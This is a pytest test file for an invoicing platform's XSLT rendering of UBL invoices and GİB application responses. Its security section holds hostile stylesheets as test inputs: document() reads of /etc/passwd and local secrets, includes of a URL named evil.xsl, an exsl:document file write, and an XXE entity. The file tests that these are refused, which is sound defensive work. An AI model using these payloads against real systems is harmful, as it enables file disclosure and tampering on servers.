"""Showing invoices and answers through their XSLT: the platform's designs, GİB's samples, and
stylesheets written to read files, reach the network or write to disk."""

import base64
import http.server
import threading
from collections.abc import Iterator

import pytest
from lxml import etree

from integrator.errors import DomainError
from invoices import display
from invoices.display import CACHE_SIZE, DisplayError, NoStylesheet, StylesheetRefused, compiled, render_html
from invoices.documents import invoice_xml
from invoices.services import invoice_issue
from tests.gib import GIB, INVOICE_SAMPLES
from tests.invoice_payloads import payload
from ubl.names import NS

HEAD = ('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" '
        'xmlns:exsl="http://exslt.org/common" extension-element-prefixes="exsl">')
MARKER = "OUR-OWN-DESIGN-7f3a"
DESIGN = HEAD + f'<xsl:template match="/"><html><body><p>{MARKER}</p></body></html></xsl:template></xsl:stylesheet>'


def stylesheet(body: str) -> bytes:
    return (HEAD + body + "</xsl:stylesheet>").encode()


def embedded_in(xml: bytes) -> list[etree._Element]:
    root = etree.fromstring(xml)
    return root.findall(display.EMBEDDED, NS)


def with_stylesheet(xml: bytes, xslt: bytes) -> bytes:
    """The invoice *xml* with its embedded design replaced by *xslt*: what a stranger could send us."""
    root = etree.fromstring(xml)
    [node] = root.findall(display.EMBEDDED, NS)
    node.text = base64.b64encode(xslt).decode()
    return etree.tostring(root, xml_declaration=True, encoding="UTF-8")


@pytest.fixture
def built(tenant_a) -> bytes:
    return bytes(invoice_issue(tenant=tenant_a, data=payload("TICARIFATURA")).xml)


# --- the designs that should show ---------------------------------------------------------------


def test_an_invoice_the_platform_built_shows_through_its_embedded_default_design(tenant_a):
    invoice = invoice_issue(tenant=tenant_a, data=payload("TICARIFATURA"))
    html = render_html(xml=invoice_xml(invoice)).decode()
    assert invoice.number in html and str(invoice.uuid).upper() in html.upper()
    assert "Satıcı" in html and "A Tekstil A.Ş." in html and "B Gıda Ltd. Şti." in html


def test_a_tenant_design_is_the_one_embedded_and_shown(tenant_a):
    tenant_a.display_xslt = DESIGN
    tenant_a.save()
    invoice = invoice_issue(tenant=tenant_a, data=payload("TEMELFATURA"))
    html = render_html(xml=invoice_xml(invoice)).decode()
    assert MARKER in html and "Satıcı" not in html


SAMPLES_WITH_XSLT = [p for p in INVOICE_SAMPLES if any((n.text or "").strip() for n in embedded_in(p.read_bytes()))]


def test_gib_ships_samples_that_embed_a_design():
    assert len(SAMPLES_WITH_XSLT) >= 10


@pytest.mark.parametrize("sample", SAMPLES_WITH_XSLT, ids=lambda p: p.name)
def test_gib_samples_show_through_their_own_embedded_xslt(sample):
    xml = sample.read_bytes()
    number = etree.fromstring(xml).findtext("cbc:ID", namespaces=NS)
    html = render_html(xml=xml).decode()
    assert number in html
    assert "Satıcı</strong>" not in html  # not our default design: GİB's own
    assert "<html" in html.lower()


def test_a_gib_sample_without_a_design_shows_through_the_platform_default():
    xml = (GIB / "samples/invoices/ubltr-1.2.1/TemelFaturaOrnegi.xml").read_bytes()
    html = render_html(xml=xml).decode()
    assert "Satıcı</strong>" in html and etree.fromstring(xml).findtext("cbc:ID", namespaces=NS) in html


def test_an_empty_embedded_design_counts_as_none():
    xml = (GIB / "samples/invoices/ubltr-1.2.1/YOLCUBERABER.xml").read_bytes()
    assert "Satıcı</strong>" in render_html(xml=xml).decode()


def test_the_callers_fallback_comes_before_the_platform_default():
    xml = (GIB / "samples/invoices/ubltr-1.2.1/TemelFaturaOrnegi.xml").read_bytes()
    assert MARKER in render_html(xml=xml, fallback_xslt=DESIGN.encode()).decode()


def test_an_application_response_shows_through_gibs_app_response_xslt(gib_package):
    xml = (GIB / "samples/responses/3_UYGULAMA_YANITI_RED.xml").read_bytes()
    html = render_html(xml=xml).decode()
    gib = (GIB / "xslt/appResponse.xslt").read_bytes()
    assert html == str(etree.XSLT(etree.fromstring(gib))(etree.fromstring(xml)))
    assert "RED" in html


def test_an_application_response_without_gibs_package_cannot_be_shown(settings, tmp_path):
    settings.GIB_PACKAGES_ROOT = tmp_path  # nothing installed there
    xml = (GIB / "samples/responses/2_UYGULAMA_YANITI_KABUL.xml").read_bytes()
    with pytest.raises(NoStylesheet):
        render_html(xml=xml)


# --- stylesheets that must not do what they try ---------------------------------------------------


def test_document_of_a_local_file_is_refused_and_reads_nothing(built, tmp_path):
    secret = tmp_path / "secret.xml"
    secret.write_text("<secret>SECRET-CONTENT</secret>")
    for path in ("file:///etc/passwd", str(secret), secret.as_uri()):
        hostile = stylesheet(f'<xsl:template match="/"><pre><xsl:copy-of select="document(\'{path}\')"/></pre></xsl:template>')
        with pytest.raises(StylesheetRefused) as refused:
            render_html(xml=with_stylesheet(built, hostile))
        assert "root:" not in str(refused.value) and "SECRET-CONTENT" not in str(refused.value)
    # The same stylesheet, run as lxml runs it by default, does read the file: the refusal is ours.
    unguarded = etree.XSLT(etree.fromstring(hostile))(etree.fromstring(built))
    assert "SECRET-CONTENT" in str(unguarded)


def test_an_include_of_a_local_file_is_refused_before_it_is_read(built, tmp_path):
    secret = tmp_path / "secret.xsl"
    secret.write_text(HEAD + '<xsl:template name="leak">SECRET-CONTENT</xsl:template></xsl:stylesheet>')
    for element in ("include", "import"):
        hostile = stylesheet(f'<xsl:{element} href="{secret.as_uri()}"/>'
                             '<xsl:template match="/"><p><xsl:call-template name="leak"/></p></xsl:template>')
        with pytest.raises(StylesheetRefused, match="includes or imports"):
            render_html(xml=with_stylesheet(built, hostile))


class _Recorder(http.server.BaseHTTPRequestHandler):
    requests: list[str] = []

    def do_GET(self):  # noqa: N802 (the stdlib's name)
        self.requests.append(self.path)
        body = (HEAD + '<xsl:template name="leak">FROM-THE-NETWORK</xsl:template></xsl:stylesheet>').encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/xml")
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


@pytest.fixture
def web() -> Iterator[str]:
    """A real HTTP server on localhost that records every request made to it."""
    _Recorder.requests = []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}"
    finally:
        server.shutdown()
        server.server_close()


def test_the_recording_server_answers(web):
    import urllib.request

    assert b"FROM-THE-NETWORK" in urllib.request.urlopen(f"{web}/probe", timeout=5).read()
    assert _Recorder.requests == ["/probe"]


def test_an_include_or_document_of_a_url_never_reaches_the_network(built, web):
    for hostile in (
        stylesheet(f'<xsl:include href="{web}/evil.xsl"/><xsl:template match="/"><p><xsl:call-template name="leak"/></p></xsl:template>'),
        stylesheet(f'<xsl:import href="{web}/evil.xsl"/><xsl:template match="/"><p><xsl:call-template name="leak"/></p></xsl:template>'),
        stylesheet(f'<xsl:template match="/"><p><xsl:copy-of select="document(\'{web}/data.xml\')"/></p></xsl:template>'),
    ):
        with pytest.raises(StylesheetRefused):
            render_html(xml=with_stylesheet(built, hostile))
    assert _Recorder.requests == []


def test_a_stylesheet_cannot_write_a_file(built, tmp_path):
    target = tmp_path / "written.txt"
    hostile = stylesheet(f'<xsl:template match="/"><exsl:document href="{target}" method="text">pwned</exsl:document>'
                         '<p>x</p></xsl:template>')
    with pytest.raises(StylesheetRefused):
        render_html(xml=with_stylesheet(built, hostile))
    assert not target.exists()
    etree.XSLT(etree.fromstring(hostile))(etree.fromstring(built))  # lxml's default would write it
    assert target.read_text() == "pwned"


def test_a_stylesheet_with_entities_is_refused(built, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("SECRET-CONTENT")
    hostile = (f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY s SYSTEM "{secret.as_uri()}">]>'
               + HEAD + '<xsl:template match="/"><p>&s;</p></xsl:template></xsl:stylesheet>').encode()
    with pytest.raises(StylesheetRefused, match="DOCTYPE"):
        render_html(xml=with_stylesheet(built, hostile))


@pytest.mark.parametrize("xslt, why", [
    (b"not xml at all", "well-formed"),
    (b"<html><body>just html</body></html>", "not an XSLT stylesheet"),
    (stylesheet('<xsl:template match="/"><xsl:value-of select="1 +* ((("/></xsl:template>'), "compile"),
    (stylesheet('<xsl:template match="/"><xsl:message terminate="yes">stop</xsl:message></xsl:template>'), "running"),
    (stylesheet('<xsl:template name="r"><xsl:call-template name="r"/></xsl:template>'
                '<xsl:template match="/"><xsl:call-template name="r"/></xsl:template>'), "running"),
])
def test_a_broken_stylesheet_is_a_domain_error_not_a_crash(built, xslt, why):
    with pytest.raises(StylesheetRefused, match=why) as refused:
        render_html(xml=with_stylesheet(built, xslt))
    assert isinstance(refused.value, DomainError)


def test_broken_base64_is_refused(built):
    root = etree.fromstring(built)
    [node] = root.findall(display.EMBEDDED, NS)
    node.text = "@@@ not base64 @@@"
    with pytest.raises(StylesheetRefused, match="base64"):
        render_html(xml=etree.tostring(root))


def test_an_oversized_stylesheet_is_refused(built, monkeypatch):
    monkeypatch.setattr(display, "MAX_STYLESHEET_BYTES", len(DESIGN) - 1)
    with pytest.raises(StylesheetRefused, match="larger than"):
        render_html(xml=with_stylesheet(built, DESIGN.encode()))


def test_a_stylesheet_that_outputs_nothing_is_a_domain_error(built):
    with pytest.raises(DisplayError, match="produced nothing"):
        render_html(xml=with_stylesheet(built, stylesheet('<xsl:template match="/"/>')))


def test_a_document_with_a_doctype_is_refused():
    with pytest.raises(DisplayError, match="DOCTYPE"):
        render_html(xml=b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e "e">]><x>&e;</x>')


def test_a_document_that_is_neither_invoice_nor_response_has_no_design():
    with pytest.raises(NoStylesheet):
        render_html(xml=b"<something-else/>")


# --- compiling once ---------------------------------------------------------------------------------


def test_each_distinct_stylesheet_is_compiled_once_and_the_least_used_leaves_first():
    designs = [stylesheet(f'<xsl:template match="/"><p>{n}</p></xsl:template>') for n in range(CACHE_SIZE + 1)]
    first = compiled(designs[0])
    assert compiled(bytes(designs[0])) is first  # equal bytes, another object: the same compiled stylesheet
    for design in designs[1:]:
        compiled(design)
    assert compiled(designs[0]) is not first  # pushed out by CACHE_SIZE newer ones, compiled again
